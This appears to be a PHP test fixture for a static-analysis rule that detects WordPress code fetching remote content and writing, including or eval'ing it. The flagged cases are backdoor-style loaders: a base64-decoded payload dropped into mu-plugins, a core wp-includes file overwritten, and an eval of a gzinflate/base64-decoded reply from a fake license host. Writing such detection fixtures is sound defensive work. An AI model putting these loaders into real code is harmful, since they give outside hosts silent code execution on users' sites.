<?php
// Fixture for php-remote-code-write-include.
// RULEID: a URL's content base64-decoded into a .php file; wp_remote_get body fwritten into
// an opened .php; curl output written then included; download_url result included; a remote
// body eval'd after gzinflate.
// OK: remote JSON cached in a .json file; a response json_decoded and var_exported into a
// config.php; a local template included; a plugin update zip unpacked.

function refresh_cache() {
    $code = base64_decode(file_get_contents('https://cdn.example-stats.net/v2/loader.txt'));
    // ruleid: php-remote-code-write-include
    file_put_contents(WP_CONTENT_DIR . '/mu-plugins/cache-helper.php', $code);
}

function sync_module($remote_url) {
    $resp = wp_remote_get($remote_url, array('timeout' => 5));
    $body = wp_remote_retrieve_body($resp);
    $fh = fopen(ABSPATH . 'wp-includes/class-wp-l10n.php', 'w');
    // ruleid: php-remote-code-write-include
    fwrite($fh, $body);
    fclose($fh);
}

function pull($endpoint) {
    $ch = curl_init($endpoint);
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    $payload = curl_exec($ch);
    $tmp = sys_get_temp_dir() . '/sess_' . md5(uniqid());
    // ruleid: php-remote-code-write-include
    file_put_contents($tmp, $payload);
    include $tmp;
    unlink($tmp);
}

function fetch_addon($download) {
    $file = download_url($download);
    // ruleid: php-remote-code-write-include
    require_once $file;
}

function boot() {
    $r = wp_remote_post('https://api.example-license.com/check', array('body' => array('site' => home_url())));
    // ruleid: php-remote-code-write-include
    eval(gzinflate(base64_decode($r['body'])));
}

function legit_cache($api_url) {
    $json = file_get_contents($api_url);
    // ok: php-remote-code-write-include
    file_put_contents(__DIR__ . '/cache/rates.json', $json);
}

function legit_config($api_url) {
    $data = json_decode(wp_remote_retrieve_body(wp_remote_get($api_url)), true);
    // ok: php-remote-code-write-include
    file_put_contents(__DIR__ . '/config.php', '<?php return ' . var_export($data, true) . ';');
}

function legit_template($name) {
    // ok: php-remote-code-write-include
    include __DIR__ . '/templates/' . basename($name) . '.php';
}

function legit_update($package_url) {
    $zip = download_url($package_url);
    // ok: php-remote-code-write-include
    unzip_file($zip, WP_PLUGIN_DIR);
}
